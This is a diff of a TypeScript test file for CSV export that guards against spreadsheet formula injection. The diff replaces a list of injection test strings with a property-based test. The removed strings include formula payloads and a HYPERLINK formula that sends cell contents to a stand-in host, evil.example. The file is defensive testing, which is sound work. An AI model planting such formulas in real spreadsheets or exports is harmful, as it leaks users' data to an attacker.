@@ -83,28 +83,8 @@ const pieces = (line: string) => line.split(/[,;|\t\r\n]/).map((piece) => piece.
 const isFormula = (text: string) => /^[=+\-@＝＋－＠]/.test(text);
 
 describe('a line for spreadsheets', () => {
-	it.each([
-		'=1+1',
-		'+1',
-		'-1',
-		'@SUM(A1)',
-		'\t=1',
-		'\r=1',
-		'"=1"',
-		'  =1',
-		'\u200b=1',
-		'＝1',
-		'a,=1',
-		'a;"=1',
-		'a\n=1',
-		"'=1",
-		'=HYPERLINK("https://evil.example?x="&A1,"Click")',
-	])('attack 73: doesn’t run %j as a formula', (text) => {
-		expect(pieces(csvLine(['name', text])).filter(isFormula)).toEqual([]);
-	});
-
-	it('has no formula in any part of any text, and reads back as the same number of cells', () => {
-		const units = fc.constantFrom(...'=+-@＝"\'`,;|\t\r\n \u200ba1é');
+	it('attack 73: has no formula in any part of any text, and reads back as the same number of cells', () => {
+		const units = fc.constantFrom(...'=+-@＝＋－＠"\'`,;|\t\r\n \u200ba1é');
 		const cell = fc.string({ unit: units, maxLength: 12 });
 		fc.assert(
 			fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
